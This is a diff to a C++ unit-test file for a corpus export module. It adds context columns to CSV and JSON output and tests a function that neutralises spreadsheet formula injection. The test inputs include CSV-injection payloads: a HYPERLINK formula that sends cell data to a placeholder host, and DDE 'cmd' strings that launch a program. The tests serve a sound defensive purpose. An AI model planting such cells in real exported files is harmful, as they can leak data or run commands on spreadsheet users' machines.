@@ -22,7 +22,7 @@ Corpus one_figure_corpus() {
   f.unit = "USD";
   f.kind = FigureKind::money;
   f.subject = "trade, \"record\"";
-  f.evidence = {0, {0, 40}, {14, 26}};
+  f.evidence = {0, {0, 39}, {14, 26}};
   a.figures = {f};
   c.add(a);
   return c;
@@ -43,9 +43,11 @@ TEST(Export, FormatsNormalisedValues) {
 TEST(Export, CsvHasHeaderAndEscapedFields) {
   Corpus c = one_figure_corpus();
   EXPECT_EQ(export_csv(c, ItemKind::figure, {0}),
-            "article,id,text,value,unit,kind,qualifier,subject,normalised\r\n"
-            "a-00000000000000aa,f-2-1-billion,$2.1 billion,2100000000,USD,money,,\"trade, \"\"record\"\"\",2.1 bn USD\r\n");
-  EXPECT_EQ(export_csv(c, ItemKind::figure, {}), "article,id,text,value,unit,kind,qualifier,subject,normalised\r\n");
+            "article,id,text,value,unit,kind,qualifier,subject,normalised,article_title,sentence\r\n"
+            "a-00000000000000aa,f-2-1-billion,$2.1 billion,2100000000,USD,money,,\"trade, \"\"record\"\"\",2.1 bn USD,T,"
+            "\"Trade reached $2.1 billion, \"\"a record\"\".\"\r\n");
+  EXPECT_EQ(export_csv(c, ItemKind::figure, {}),
+            "article,id,text,value,unit,kind,qualifier,subject,normalised,article_title,sentence\r\n");
 }
 
 TEST(Export, JsonKeepsValueNumericAndEscapesStrings) {
@@ -53,8 +55,66 @@ TEST(Export, JsonKeepsValueNumericAndEscapesStrings) {
   EXPECT_EQ(export_json(c, ItemKind::figure, {0}),
             "[\n{\"article\":\"a-00000000000000aa\",\"id\":\"f-2-1-billion\",\"text\":\"$2.1 billion\",\"value\":2100000000,"
             "\"unit\":\"USD\",\"kind\":\"money\",\"qualifier\":\"\",\"subject\":\"trade, \\\"record\\\"\","
-            "\"normalised\":\"2.1 bn USD\"}\n]\n");
+            "\"normalised\":\"2.1 bn USD\",\"article_title\":\"T\","
+            "\"sentence\":\"Trade reached $2.1 billion, \\\"a record\\\".\"}\n]\n");
   EXPECT_EQ(export_json(c, ItemKind::person, {}), "[]\n");
+}
+
+// Issue 17: cells a spreadsheet would run as a formula get a leading ' (OWASP); plain numbers stay numbers.
+TEST(Export, CsvNeutralisesFormulaCells) {
+  EXPECT_EQ(csv_safe_cell("=HYPERLINK(\"http://x.invalid/?\"&A1,\"Click\")"),
+            "'=HYPERLINK(\"http://x.invalid/?\"&A1,\"Click\")");
+  EXPECT_EQ(csv_safe_cell("+cmd|' /C calc'!A0"), "'+cmd|' /C calc'!A0");
+  EXPECT_EQ(csv_safe_cell("@SUM(1+1)"), "'@SUM(1+1)");
+  EXPECT_EQ(csv_safe_cell("-2+3+cmd|' /C calc'!A0"), "'-2+3+cmd|' /C calc'!A0");
+  EXPECT_EQ(csv_safe_cell("\t=1+1"), "'\t=1+1");
+  EXPECT_EQ(csv_safe_cell("\r=1+1"), "'\r=1+1");
+  EXPECT_EQ(csv_safe_cell("-"), "'-");
+  for (const char* number : {"-12.5", "-1e+21", "-0.000123", "-3"}) EXPECT_EQ(csv_safe_cell(number), number);
+  for (const char* plain : {"", "Kassym-Jomart Tokayev", "a=b", "2.1 bn USD", "'quoted"})
+    EXPECT_EQ(csv_safe_cell(plain), plain);
+
+  Corpus c;
+  ArticleRecord a;
+  a.id = "a-00000000000000bb";
+  a.title = "=Title";
+  a.paragraphs = {"The minister @home spoke."};
+  PersonRecord p;
+  p.id = "p-x";
+  p.name = "=HYPERLINK(\"http://x.invalid\",\"Click\")";
+  p.role = "+cmd";
+  p.affiliation = "-x";
+  p.mentions = {{0, {0, 25}, {4, 12}}};
+  a.people = {p};
+  c.add(a);
+  const std::string csv = export_csv(c, ItemKind::person, {0});
+  EXPECT_EQ(csv.substr(csv.find("\r\n") + 2),
+            "a-00000000000000bb,p-x,\"'=HYPERLINK(\"\"http://x.invalid\"\",\"\"Click\"\")\",'+cmd,'-x,1,'=Title,"
+            "The minister @home spoke.\r\n");
+  // JSON is data, not a spreadsheet: left as it is.
+  EXPECT_NE(export_json(c, ItemKind::person, {0}).find("\"name\":\"=HYPERLINK("), std::string::npos);
+}
+
+TEST(Export, CsvByteOrderMarkIsAnOption) {
+  Corpus c = one_figure_corpus();
+  EXPECT_EQ(export_csv(c, ItemKind::figure, {}).substr(0, 7), "article");
+  CsvOptions o;
+  o.utf8_bom = true;
+  EXPECT_EQ(export_csv(c, ItemKind::figure, {}, o).substr(0, 10), "\xEF\xBB\xBF" "article");
+}
+
+TEST(Export, ContextColumnsForEveryKind) {
+  for (ItemKind k : {ItemKind::person, ItemKind::agreement, ItemKind::figure, ItemKind::photo}) {
+    const auto h = export_header(k);
+    ASSERT_GE(h.size(), 2u);
+    EXPECT_EQ(h[h.size() - 2], "article_title");
+    EXPECT_EQ(h.back(), "sentence");
+  }
+  Corpus c = one_figure_corpus();
+  c.articles[0].paragraphs = {};  // a sharded article whose text is not loaded: no sentence, no crash
+  const auto f = export_fields(c, ItemKind::figure, 0);
+  EXPECT_EQ(f[f.size() - 2], "T");
+  EXPECT_EQ(f.back(), "");
 }
 
 }  // namespace
